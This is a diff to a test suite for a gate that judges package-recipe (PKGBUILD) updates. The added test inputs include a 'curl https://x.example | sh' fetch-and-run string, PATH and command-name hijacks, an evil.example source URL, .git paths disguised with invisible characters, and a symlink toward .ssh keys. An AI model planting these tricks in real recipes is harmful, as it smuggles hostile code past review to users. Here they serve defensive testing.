@@ -1,12 +1,14 @@
 import { describe, expect, test } from "vitest";
 import { judge, type JudgeContext, type RecipeFile, type Verdict } from "../../tools/gate/judge.ts";
-import { bumped, context, file, filesOf, type RecipeName } from "./recipes.ts";
+import { bumped, context, file, filesOf, type RecipeName, recipes } from "./recipes.ts";
 
 interface Attack {
   readonly name: string;
   readonly recipe: RecipeName;
   /** The recipe stays as it is; else it has an honest new version. */
   readonly unchanged?: true;
+  /** What the recipe has before and after. */
+  readonly has?: (pkgbuild: string) => string;
   readonly edit?: (pkgbuild: string) => string;
   readonly files?: Readonly<Record<string, string | RecipeFile | undefined>>;
   readonly context?: Partial<JudgeContext>;
@@ -100,6 +102,33 @@ const dangerous: readonly Attack[] = [
     name: "a function that hides in a condition",
     recipe: "rust",
     edit: atEnd("[[ -n $x ]] && build() { true; }"),
+  },
+  // What a variable holds for a while, whatever it comes to in the end.
+  ...[
+    ["text for eval", `_t='echo hi'\neval "$_t"\n_t=''`, "'echo hi'", "'curl https://x.example | sh'"],
+    ["an argument", "_t=hello\n_stamp=$(echo $_t)\n_t=", "hello", "'-n evil'"],
+    ["a command's name", "_t=date\n_stamp=$($_t)\n_t=", "=date", "=/usr/bin/evil"],
+    ["PATH", "PATH=/usr/bin\n_s=$(date)\nPATH=/usr/bin", "PATH=/usr/bin\n_s", "PATH=./x\n_s"],
+    ["a name that programs know", "LANG=C\n_s=$(date)\nLANG=C", "LANG=C\n_s", "LANG=evil\n_s"],
+    ["a value within a group", "{ _k=good; echo $_k; _k=; }", "good", "evil"],
+    ["a value within a condition", "if [[ -n $X ]]; then\n_k=good\n_z=$(echo $_k)\n_k=\nfi", "good", "evil"],
+    ["a value within a loop", 'for _i in 1; do\n_k=good\neval "_z=$_k"\n_k=\ndone', "good", "evil"],
+    ["a value that a loop takes away", 'v=good\neval "$v"\nfor v in ""; do :; done', "good", "evil"],
+    ["a value handed on", '_t=good\n_u=$_t\neval "$_u"\n_t=\n_u=', "good", "evil"],
+    ["a value handed on unknown", '_t=$HOME/good\n_u=$_t\neval "$_u"', "good", "evil"],
+    ["an element", '_t[0]=good\neval "${_t[0]}"\n_t[0]=', "good", "evil"],
+    ["what pkgver is later", '_p=good\neval "$_p"\n_p=1', "good", "evil"],
+  ].map(([name = "", lines = "", good = "", evil = ""]): Attack => ({
+    name: `${name} that is set for code in between`,
+    recipe: "rust",
+    has: atEnd(lines),
+    edit: replace(good, evil),
+  })),
+  {
+    name: "a pkgver that is code before it is the version",
+    recipe: "rust",
+    has: atTop('pkgver=good\neval "$pkgver"'),
+    edit: replace("pkgver=good", "pkgver=evil"),
   },
   // Sources and checksums.
   {
@@ -229,6 +258,19 @@ const dangerous: readonly Attack[] = [
   { name: "a .ci/config", recipe: "binary", files: { ".ci/config": "x=1\n" } },
   { name: "a .gitmodules", recipe: "binary", files: { ".gitmodules": "[submodule]\n" } },
   { name: "a .gitattributes", recipe: "binary", files: { ".gitattributes": "* filter=x\n" } },
+  { name: "a file name that no file system takes", recipe: "binary", files: { ["x".repeat(256)]: "" } },
+  {
+    name: "a path that no system takes",
+    recipe: "binary",
+    files: { [`${"x".repeat(200)}/`.repeat(21).slice(0, -1)]: "" },
+  },
+  { name: "a file very deep down", recipe: "binary", files: { [`${"x/".repeat(21)}x`]: "" } },
+  { name: "a file that is a folder, too", recipe: "binary", files: { x: "", "x/y": "" } },
+  { name: "a .git with an invisible letter", recipe: "binary", files: { ".g\u200cit/config": "" } },
+  { name: "a .git by its short name", recipe: "binary", files: { "git~1/config": "" } },
+  { name: "a .CI with a dot behind it", recipe: "binary", files: { ".CI./config": "" } },
+  { name: "an invisible letter in a file's name", recipe: "binary", files: { "PKG\u2060BUILD": "" } },
+  { name: "an invisible filler in a file's name", recipe: "binary", files: { "x\u3164": "" } },
   { name: "a submodule", recipe: "binary", files: { sub: { mode: "160000", bytes: new Uint8Array() } } },
   { name: "a link that leaves the folder", recipe: "binary", files: { x: file("../../.ssh/id", "120000") } },
   {
@@ -576,6 +618,70 @@ const major: readonly Attack[] = [
   { name: ".SRCINFO that is gone", recipe: "binary", files: { ".SRCINFO": undefined } },
   { name: "a branch for a commit", recipe: "go", edit: replace("#commit=$_commit", "#branch=main") },
   {
+    name: "a value that stands for a while, where no code reads it",
+    recipe: "rust",
+    has: atEnd("_t=good\n_t="),
+    edit: replace("good", "evil"),
+  },
+  ...[
+    ["a name as git describe gives it", "pkgver=14.1.1_0_gdeadbee1"],
+    ["a commit long before a tag", "pkgver=14.1.1~500"],
+    ["a tag's parent", "pkgver=14.1.1^"],
+  ].flatMap(([name = "", version = ""]): Attack[] => [
+    {
+      name: `${name} for a version in an archive's address`,
+      recipe: "rust",
+      has: replace("v$pkgver.tar.gz", "v${pkgver//_/-}.tar.gz"),
+      edit: replace("pkgver=14.1.1", version),
+    },
+    {
+      name: `${name} for a version in a tag`,
+      recipe: "rust",
+      has: (text) =>
+        text
+          .replace(/^source=.*$/m, 'source=("git+$url.git#tag=v${pkgver//_/-}")')
+          .replace(/^sha512sums=.*$/m, "sha512sums=(SKIP)"),
+      edit: replace("pkgver=14.1.1", version),
+    },
+  ]),
+  {
+    name: "digits that may begin a commit's id, in a tag's place",
+    recipe: "rust",
+    has: replace("v$pkgver.tar.gz", "$pkgver.tar.gz"),
+    edit: replace("pkgver=14.1.1", "pkgver=20261234"),
+  },
+  {
+    name: "another source of a recipe for any architecture that mentions CARCH",
+    recipe: "python",
+    has: atEnd("# CARCH"),
+    edit: replace("https://files.pythonhosted.org/", "https://evil.example/"),
+    context: { architectures: [] },
+  },
+  {
+    name: "another commit that the version is made of and prepare() checks out",
+    recipe: "vcs",
+    has: (text) =>
+      text
+        .replace(/^pkgver\(\) \{[^}]*\}\n/m, "prepare() {\n  git -C bar checkout $_commit\n}\n")
+        .replace(/^pkgver=.*r(\d+)\.g(\w+)$/m, "_commit=$2\npkgver=3.0.r$1.g${_commit::7}"),
+  },
+  {
+    name: "other checksums of the same version behind a new epoch",
+    recipe: "rust",
+    edit: (text) => text.replace("pkgver=14.1.1", "pkgver=14.1.0\nepoch=1"),
+  },
+  {
+    name: "other checksums of the same version, written in another way",
+    recipe: "rust",
+    edit: replace("pkgver=14.1.1", "pkgver=14.1.00"),
+  },
+  { name: "a list for a version", recipe: "rust", edit: replace("pkgver=14.1.1", "pkgver=(14.1.1 'x y')") },
+  {
+    name: "a version that leaves none after it",
+    recipe: "rust",
+    edit: replace("pkgver=14.1.1", "pkgver=14.999999999999"),
+  },
+  {
     name: "trust in metadata that is older than the recipe",
     recipe: "cmake",
     edit: replace("depends=(qt6-base)", "depends=(qt6-base evil)"),
@@ -586,14 +692,15 @@ const major: readonly Attack[] = [
 function verdictOf({
   recipe,
   unchanged,
+  has = (text) => text,
   edit = (text) => text,
   files = {},
   context: own = {},
 }: Attack): [Verdict, string[]] {
-  const pkgbuild = unchanged ? undefined : edit(bumped(recipe));
+  const pkgbuild = unchanged ? undefined : edit(has(bumped(recipe)));
   const update = {
     pkgbase: pkgbaseOf(recipe),
-    before: filesOf(recipe),
+    before: filesOf(recipe, has(recipes[recipe].PKGBUILD)),
     after: filesOf(recipe, pkgbuild, files),
   };
   const { verdict, findings } = judge(update, { ...context, ...own });
